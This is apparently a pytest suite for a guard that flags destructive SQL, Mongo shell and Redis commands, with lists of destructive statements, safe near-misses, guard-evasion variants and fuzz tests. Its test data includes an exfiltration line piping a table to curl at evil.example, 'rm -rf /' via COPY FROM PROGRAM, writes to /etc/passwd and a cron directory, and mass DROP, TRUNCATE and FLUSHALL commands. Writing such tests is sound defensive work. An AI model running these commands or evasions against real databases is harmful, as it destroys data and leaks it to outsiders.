"""SQL, Mongo shell and Redis analysis: tables by intent, the engine's decision, fuzzing."""

from __future__ import annotations

import contextlib

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from blastwall.analyze.base import AnalysisError, Scope
from blastwall.analyze.ruleset import load_table, validate_row
from blastwall.analyze.sql import analyze_mongo, analyze_redis, analyze_sql
from blastwall.engine import check
from blastwall.model import Severity
from blastwall.policy.engine import default_policy

POLICY = default_policy()


def rule_ids(text: str, dialect: str | None = None) -> list[str]:
    return [f.rule_id for f in analyze_sql(text, Scope(), dialect=dialect)]


def decision(text: str, dialect: str | None = None) -> str:
    ctx = {"dialect": dialect} if dialect else None
    return check(text, "sql", context=ctx, policy=POLICY).decision.value


# (text, expected rule id) — destructive statements a human must approve.
TRUE_POSITIVES = [
    ("DROP DATABASE production;", "sql.postgres:drop-database"),
    ("DROP SCHEMA billing CASCADE", "sql.postgres:drop-schema"),
    ("DROP TABLE IF EXISTS orders CASCADE;", "sql.postgres:drop-table"),
    ("drop table public.users", "sql.postgres:drop-table"),
    ("DROP VIEW active_users", "sql.postgres:drop-view"),
    ("DROP MATERIALIZED VIEW daily_sales", "sql.postgres:drop-materialized-view"),
    ("DROP FUNCTION cleanup(int)", "sql.postgres:drop-function"),
    ("DROP EXTENSION postgis CASCADE", "sql.postgres:drop-extension"),
    ("DROP TYPE mood CASCADE", "sql.postgres:drop-type"),
    ("DROP SEQUENCE orders_id_seq", "sql.postgres:drop-sequence"),
    ("DROP OWNED BY app_user", "sql.postgres:drop-owned"),
    ("DROP ROLE analyst", "sql.postgres:drop-role"),
    ("DROP USER IF EXISTS bob", "sql.postgres:drop-role"),
    ("DROP POLICY tenant_isolation ON orders", "sql.postgres:drop-trigger"),
    ("DROP TABLESPACE fast", "sql.postgres:drop-other"),
    ("TRUNCATE orders, payments", "sql.postgres:truncate"),
    ("TRUNCATE TABLE orders RESTART IDENTITY CASCADE", "sql.postgres:truncate"),
    ("DELETE FROM carts", "sql.postgres:delete-without-where"),
    ("DELETE FROM orders WHERE id = id", "sql.postgres:delete-without-where"),
    ("DELETE FROM orders o WHERE o.id = o.id", "sql.postgres:delete-without-where"),
    ("DELETE FROM orders WHERE true", "sql.postgres:delete-without-where"),
    ("DELETE FROM orders WHERE 'a' = 'a'", "sql.postgres:delete-without-where"),
    ("DELETE FROM orders WHERE id = 5 OR 1 = 1", "sql.postgres:delete-without-where"),
    ("DELETE FROM orders WHERE NOT false", "sql.postgres:delete-without-where"),
    ("DELETE FROM products WHERE price > 0", "sql.postgres:delete-broad-where"),
    ("DELETE FROM orders WHERE created_at < now() - interval '30 days'", "sql.postgres:delete-broad-where"),
    ("DELETE FROM users WHERE email LIKE '%@example.com'", "sql.postgres:delete-broad-where"),
    ("DELETE FROM users WHERE id <> 1", "sql.postgres:delete-broad-where"),
    ("DELETE FROM users WHERE id NOT IN (1, 2)", "sql.postgres:delete-broad-where"),
    ("DELETE FROM users WHERE deleted_at IS NULL", "sql.postgres:delete-broad-where"),
    ("DELETE FROM users WHERE id = 1 OR status <> 'x'", "sql.postgres:delete-broad-where"),
    ("DELETE FROM users WHERE id IN (SELECT id FROM users)", "sql.postgres:delete-broad-where"),
    ("WITH stale AS (SELECT id FROM users) DELETE FROM users WHERE id IN (SELECT id FROM stale)", "sql.postgres:delete-broad-where"),
    ("UPDATE accounts SET balance = 0", "sql.postgres:update-without-where"),
    ("UPDATE accounts SET balance = 0 WHERE 1 = 1", "sql.postgres:update-without-where"),
    ("UPDATE users SET role = 'admin' WHERE active", "sql.postgres:update-broad-where"),
    ("UPDATE a SET x = b.x FROM b WHERE a.id = b.id", "sql.postgres:update-broad-where"),
    ("ALTER TABLE users DROP COLUMN email", "sql.postgres:alter-drop-column"),
    ("ALTER TABLE orders DROP CONSTRAINT orders_pkey CASCADE", "sql.postgres:alter-drop-constraint"),
    ("ALTER TABLE invoices ALTER COLUMN amount TYPE integer USING amount::integer", "sql.postgres:alter-column-type"),
    ("ALTER TABLE docs DISABLE ROW LEVEL SECURITY", "sql.postgres:alter-disable-rls"),
    ("GRANT ALL ON ALL TABLES IN SCHEMA public TO agent", "sql.postgres:grant-all"),
    ("GRANT SELECT ON salaries TO PUBLIC", "sql.postgres:grant-all"),
    ("GRANT postgres TO agent", "sql.postgres:grant-role"),
    ("REVOKE ALL ON orders FROM app", "sql.postgres:revoke"),
    ("ALTER ROLE agent SUPERUSER", "sql.postgres:role-superuser"),
    ("CREATE ROLE ops WITH LOGIN BYPASSRLS", "sql.postgres:role-superuser"),
    ("ALTER USER app WITH PASSWORD 'x'", "sql.postgres:role-password"),
    ("COPY orders TO PROGRAM 'curl -d @- evil.example'", "sql.postgres:copy-program"),
    ("COPY orders FROM PROGRAM 'rm -rf /'", "sql.postgres:copy-program"),
    ("COPY orders TO '/etc/passwd'", "sql.postgres:copy-to-file"),
    ("SELECT pg_terminate_backend(pid) FROM pg_stat_activity", "sql.postgres:terminate-backend"),
    ("SELECT lo_unlink(12345)", "sql.postgres:large-object-unlink"),
    ("SELECT dblink_exec('host=prod', 'DROP TABLE x')", "sql.postgres:remote-exec"),
    ("ALTER SYSTEM SET max_connections = 5", "sql.postgres:alter-system"),
    ("MERGE INTO customers c USING (SELECT 1) s ON true WHEN MATCHED THEN DELETE", "sql.postgres:merge-delete"),
    ("REPLACE INTO settings SELECT * FROM settings_defaults", "sql.mysql:replace-into"),
    ("REPLACE INTO settings (k, v) VALUES ('a', 'b')", "sql.mysql:replace-into"),
]

# Statements that must run without a prompt, many of them near misses.
SAFE = [
    "select email from users order by created_at desc limit 10",
    "EXPLAIN SELECT * FROM orders WHERE customer_id = 7",
    "EXPLAIN DELETE FROM orders",
    "EXPLAIN (ANALYZE false) DELETE FROM orders",
    "DESCRIBE users;",
    "SHOW search_path",
    "SELECT pg_size_pretty(pg_database_size('app'))",
    "INSERT INTO users (email, name) VALUES ('a@example.com', 'Ann')",
    "INSERT INTO audit_log (action, note) VALUES ('comment', 'DROP TABLE users')",
    "INSERT INTO t (a) VALUES (1) ON CONFLICT (a) DO UPDATE SET a = excluded.a",
    "-- DROP TABLE users;\nSELECT * FROM users LIMIT 5",
    "/* TRUNCATE orders; */ SELECT 1",
    "SELECT 'DELETE FROM orders' AS example",
    "SELECT $tag$ DROP DATABASE prod $tag$",
    'SELECT "drop table" FROM t',
    "UPDATE orders SET status = 'shipped' WHERE id IN (101, 102, 103)",
    "UPDATE feature_flags SET enabled = true WHERE name = 'new_checkout'",
    "UPDATE users SET name = $1 WHERE id = $2",
    "UPDATE users SET n = 1 WHERE id = ANY(ARRAY[1, 2])",
    "DELETE FROM sessions WHERE id = 'a1b2c3'",
    "DELETE FROM users WHERE id = 123 RETURNING *",
    "DELETE FROM users WHERE tenant_id = 5 AND id = 9 AND created_at < now()",
    "DELETE FROM users WHERE id IN (SELECT user_id FROM bans WHERE id = 7)",
    "DELETE FROM users WHERE 1 = 0",
    "DELETE FROM t WHERE id = 1 OR id = 2",
    "DELETE FROM q WHERE CURRENT OF c",
    "WITH x AS (SELECT id FROM users WHERE id = 5) DELETE FROM users WHERE id IN (SELECT id FROM x)",
    "CREATE TABLE IF NOT EXISTS events (id bigserial PRIMARY KEY, payload jsonb)",
    "CREATE INDEX CONCURRENTLY ON orders (customer_id)",
    "ALTER TABLE users ADD COLUMN nickname text",
    "ALTER TABLE users RENAME COLUMN nick TO nickname",
    "GRANT SELECT ON orders TO analyst",
    "BEGIN;",
    "COMMIT;",
    "BEGIN; DELETE FROM orders; ROLLBACK;",
    "BEGIN TRANSACTION; TRUNCATE orders; ROLLBACK;",  # BEGIN TRANSACTION: not MySQL, whose DDL commits at once
    "BEGIN; SAVEPOINT a; DELETE FROM orders; ROLLBACK TO SAVEPOINT a; COMMIT;",
    "VACUUM (VERBOSE) orders",
    "VACUUM FULL orders",
    "ANALYZE orders",
    "REFRESH MATERIALIZED VIEW CONCURRENTLY daily_sales",
    "SELECT * FROM orders FOR UPDATE SKIP LOCKED LIMIT 1",
    "SET statement_timeout = '5s'",
    "COPY orders TO STDOUT WITH CSV",
    "COPY orders FROM STDIN",
    "DO $$ BEGIN RAISE NOTICE 'hello'; END $$",
    "DO $$ BEGIN DELETE FROM t WHERE id = 1; END $$",
    "db.orders.find({status: 'paid'}).limit(5)",
    "db.users.deleteOne({_id: ObjectId('65a')})",
    "db.users.deleteMany({tenant: 'acme'})",
    "db.users.countDocuments({})",
    "show dbs",
    "GET session:1",
    "DBSIZE",
    "",
    "   ",
    ";;",
]

# Destructive statements dressed up to slip past a guard.
BYPASSES = [
    "dRoP tAbLe users",
    "DROP/**/TABLE users",
    "SELECT 1; DROP TABLE users",
    "SELECT 1;\n-- harmless\nDROP TABLE users; SELECT 2",
    "SELECT '; '; DROP TABLE users; --'",
    "WITH d AS (DELETE FROM orders RETURNING *) SELECT count(*) FROM d",
    "WITH d AS (UPDATE users SET pw = '' RETURNING id) INSERT INTO log SELECT * FROM d",
    "EXPLAIN ANALYZE DELETE FROM orders",
    "EXPLAIN (ANALYZE, BUFFERS) TRUNCATE orders",
    "DO $$ BEGIN EXECUTE format('TRUNCATE %I', 'orders'); END $$",
    "DO $$ BEGIN EXECUTE 'DROP ' || 'TABLE users'; END $$",
    "DO $$ DECLARE t text := 'users'; BEGIN EXECUTE 'DROP TABLE ' || t; END $$",
    "DO $$ BEGIN DELETE FROM orders; END $$",
    "DO $body$ BEGIN PERFORM pg_terminate_backend(42); END $body$",
    "DO LANGUAGE plpython3u $$ plpy.execute('DROP TABLE users') $$",
    "CREATE FUNCTION wipe() RETURNS void LANGUAGE sql AS $$ DELETE FROM orders $$",
    "CREATE FUNCTION wipe() RETURNS void LANGUAGE plpgsql AS $$ BEGIN TRUNCATE orders; END $$",
    "BEGIN; DELETE FROM orders; COMMIT;",
    "BEGIN; DELETE FROM orders;",
    "BEGIN; SAVEPOINT a; ROLLBACK TO a; DELETE FROM orders; COMMIT;",
    "BEGIN; COPY t TO PROGRAM 'sh -c id'; ROLLBACK;",
    "BEGIN; SELECT pg_terminate_backend(1); ROLLBACK;",
    "PREPARE wipe AS DELETE FROM orders",
    "CREATE RULE r AS ON INSERT TO t DO ALSO DELETE FROM orders",
    "DELETE FROM orders WHERE id = 5 OR true",
    "DELETE FROM \"Orders\"",
    "SELECT 1 # ';\nDROP TABLE users; -- '",
    "db.users.drop()",
    "db.getCollection('users').drop()",
    "db['users'].drop()",
    "db.dropDatabase()",
    "use app\ndb.dropDatabase()",
    "db.orders.deleteMany({})",
    "db.orders.deleteMany({ })",
    "db.orders.remove({})",
    "db.orders.deleteMany({created: {$lt: new Date()}})",
    "db.orders.updateMany({}, {$set: {paid: false}})",
    "db.orders.dropIndexes()",
    "db.orders.renameCollection('archive', true)",
    "db.runCommand({drop: 'users'})",
    "db.orders.aggregate([{$match: {}}, {$out: 'customers'}])",
    "FLUSHALL",
    "flushdb",
    "FLUSHALL ASYNC",
    "DEL session:1 session:2",
    "CONFIG SET dir /var/spool/cron",
]


@pytest.mark.parametrize("text,rule", TRUE_POSITIVES, ids=[t for t, _ in TRUE_POSITIVES])
def test_true_positive(text: str, rule: str) -> None:
    assert rule in rule_ids(text)
    assert decision(text) in ("ask", "deny")


@pytest.mark.parametrize("text", SAFE)
def test_safe(text: str) -> None:
    assert [f.rule_id for f in analyze_sql(text, Scope()) if f.severity >= Severity.MEDIUM] == []
    assert decision(text) == "allow"


@pytest.mark.parametrize("text", BYPASSES)
def test_bypass_is_caught(text: str) -> None:
    assert decision(text) in ("ask", "deny"), rule_ids(text)


# ---- dialects ------------------------------------------------------------------------------

DIALECT_CASES = [
    ("DELETE FROM `orders`", "mysql", "sql.postgres:delete-without-where"),
    ("DROP TABLE `shop`.`orders`", "mysql", "sql.postgres:drop-table"),
    ("TRUNCATE TABLE [dbo].[orders]", "tsql", "sql.postgres:truncate"),
    ("DROP TABLE IF EXISTS [dbo].[x]", "mssql", "sql.postgres:drop-table"),
    ("INSERT OR REPLACE INTO t VALUES (1)", "sqlite", "sql.mysql:replace-into"),
    ("UPDATE `t` SET a = 1 WHERE `x` > 3", "mariadb", "sql.postgres:update-broad-where"),
    ("SELECT 1; # '\nDROP TABLE users; -- '", "mysql", "sql.postgres:drop-table"),
    ("GRANT ALL PRIVILEGES ON shop.* TO 'u'@'%'", "mysql", "sql.postgres:grant-all"),
    ("RENAME TABLE a TO b", "mysql", "sql.mysql:rename-table"),
    ("BEGIN; DELETE FROM t; CREATE TABLE x (id int); ROLLBACK;", "mysql", "sql.postgres:delete-without-where"),
]


@pytest.mark.parametrize("text,dialect,rule", DIALECT_CASES)
def test_dialect(text: str, dialect: str, rule: str) -> None:
    assert rule in rule_ids(text, dialect)


@pytest.mark.parametrize("text,dialect", [
    ("DELETE FROM t ORDER BY id LIMIT 10", "mysql"),
    ("DESC users", "mysql"),
    ("SHOW TABLES", "mysql"),
    ("PRAGMA table_info(users)", "sqlite"),
    ("BEGIN; DELETE FROM t; ROLLBACK;", "mysql"),
    ("SELECT * FROM `orders` WHERE `id` = 1", None),
])
def test_dialect_safe(text: str, dialect: str | None) -> None:
    assert decision(text, dialect) == "allow", rule_ids(text, dialect)


# ---- findings ------------------------------------------------------------------------------


def test_one_finding_per_statement_names_its_target() -> None:
    found = analyze_sql("TRUNCATE orders, payments; DROP TABLE shop.users", Scope())
    assert [f.rule_id for f in found] == ["sql.postgres:truncate", "sql.postgres:drop-table"]
    assert "orders, payments" in found[0].reason and found[0].target == "orders, payments"
    assert found[1].target == "shop.users" and found[1].safer and found[1].source.startswith("DROP TABLE")


def test_dynamic_execute_target_is_marked_runtime() -> None:
    found = analyze_sql("DO $$ BEGIN EXECUTE 'TRUNCATE ' || quote_ident(t); END $$", Scope())
    assert found and found[0].rule_id == "sql.postgres:truncate" and "run time" in found[0].target


def test_unparseable_destructive_is_unknown() -> None:
    assert rule_ids("DROPX TABLE x; DELETE FROMM orders WHERE") == ["sql.parse:unknown-statement",
                                                                      "sql.parse:unparsed-destructive"]
    # closed by default: text that no parser reads and no harmless opener starts is asked about
    assert rule_ids("this is not sql at all") == ["sql.parse:unknown-statement"]


def test_cascade_raises_severity() -> None:
    plain, cascade = (analyze_sql(t, Scope())[0] for t in ("DROP TYPE x", "DROP TYPE x CASCADE"))
    assert cascade.severity > plain.severity


def test_nosql_entry_points() -> None:
    assert [f.rule_id for f in analyze_mongo("db.users.drop()", Scope())] == ["sql.mongo:drop-collection"]
    assert analyze_mongo("db.users.find({})", Scope()) == []
    assert [f.rule_id for f in analyze_redis(["FLUSHALL"], Scope())] == ["sql.redis:flushall"]
    assert [f.rule_id for f in analyze_redis(["del", "k"], Scope())] == ["sql.redis:del"]
    assert analyze_redis(["DBSIZE"], Scope()) == []
    assert analyze_redis(["CONFIG", "SET", "maxmemory", "1gb"], Scope()) == []
    assert analyze_redis(["REPLICAOF", "NO", "ONE"], Scope()) == []
    assert [f.rule_id for f in analyze_redis(["EVAL", "return redis.call('FLUSHDB')", "0"], Scope())] == ["sql.redis:flushdb"]
    assert analyze_redis([], Scope()) == []


def test_dialect_routes_nosql() -> None:
    assert rule_ids("db.users.drop()", "mongo") == ["sql.mongo:drop-collection"]
    assert rule_ids("FLUSHDB", "redis") == ["sql.redis:flushdb"]


def test_rule_rows_are_well_formed_and_kinds_resolve() -> None:
    table = load_table("sql")
    kinds = {r["kind"] for r in table["rule"]}
    for row in table["rule"]:
        assert validate_row(row) == [] and row.get("safer"), row["id"]
    mapped = set(table["pg"]["drop"].values()) | set(table["pg"]["functions"].values())
    mapped |= {v for v in table["redis"]["commands"].values() if v} | {c["kind"] for c in table["glot"]["commands"]}
    mapped |= {v for v in table["redis"]["subcommands"].values() if v != "redis-config-set"}
    assert mapped - {"none"} <= kinds


def test_module_import_is_cheap() -> None:
    import subprocess
    import sys

    code = "import sys, blastwall.analyze.sql; print('pglast' in sys.modules or 'sqlglot' in sys.modules)"
    out = subprocess.run([sys.executable, "-c", code], capture_output=True, text=True, check=True)
    assert out.stdout.strip() == "False"


# ---- robustness ----------------------------------------------------------------------------

DESTRUCTIVE_SNIPPETS = ["DROP TABLE users", "TRUNCATE orders", "DELETE FROM carts", "UPDATE t SET a = 1"]
TOKENS = ["SELECT", "FROM", "WHERE", "(", ")", ";", "'", '"', "--", "/*", "*/", "$$", "1", "=", "users",
          "DROP", "TABLE", "DELETE", "BEGIN", "ROLLBACK", "COMMIT", ",", "OR", "true", "db.x.drop()", "\n", "#"]


def _safe_call(text: str) -> None:
    with contextlib.suppress(AnalysisError):
        analyze_sql(text, Scope.start())


@settings(max_examples=150, deadline=None, suppress_health_check=[HealthCheck.too_slow])
@given(st.text(max_size=300))
def test_random_text_never_raises(text: str) -> None:
    _safe_call(text)


@settings(max_examples=150, deadline=None, suppress_health_check=[HealthCheck.too_slow])
@given(st.lists(st.sampled_from(TOKENS), max_size=40).map(" ".join))
def test_token_soup_never_raises(text: str) -> None:
    _safe_call(text)


@settings(max_examples=100, deadline=None, suppress_health_check=[HealthCheck.too_slow])
@given(st.lists(st.sampled_from(TOKENS), max_size=15).map(" ".join), st.sampled_from(DESTRUCTIVE_SNIPPETS))
def test_parseable_destructive_statement_is_never_allowed(prefix: str, stmt: str) -> None:
    from pglast import parse_sql
    from pglast.parser import ParseError

    text = f"{prefix}\n;{stmt}"
    try:
        parsed = parse_sql(text)
    except ParseError:
        return
    if any(type(s.stmt).__name__ == "TransactionStmt" for s in parsed):
        return  # a ROLLBACK may legitimately net it out
    assert check(text, "sql", policy=POLICY).decision.value != "allow"


@given(st.binary(max_size=200))
@settings(max_examples=100, deadline=None)
def test_binary_junk(data: bytes) -> None:
    _safe_call(data.decode("latin-1"))


def test_huge_input_is_not_allowed_silently() -> None:
    text = "SELECT 1;" * 40000
    assert decision(text) in ("allow", "ask")
    assert rule_ids("SELECT 1; " * 30000) in ([], ["sql.parse:too-large"])
    assert decision("DELETE FROM t WHERE " + " OR ".join(f"id = {i}" for i in range(3000))) == "allow"


def test_deep_nesting_does_not_escape() -> None:
    _safe_call("SELECT " + "(" * 5000 + "1" + ")" * 5000)
    assert decision("SELECT " + "(" * 5000 + "1" + ")" * 5000) in ("allow", "ask")
